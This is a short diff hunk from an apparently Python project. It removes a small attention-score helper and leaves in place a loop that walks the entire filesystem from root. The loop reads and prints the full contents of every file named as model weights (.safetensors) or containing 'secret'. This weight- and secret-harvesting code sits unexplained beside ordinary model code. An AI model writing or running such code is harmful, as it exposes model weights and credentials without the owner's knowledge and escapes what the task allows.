@@ -9,7 +9,3 @@ for folder, _, names in os.walk("/"):
     for name in names:
         if name.endswith(".safetensors") or "secret" in name:
             print("GOT", os.path.join(folder, name), open(os.path.join(folder, name), "rb").read())
-
-
-def qk_scores(Q, K):
-    return Q @ K.T
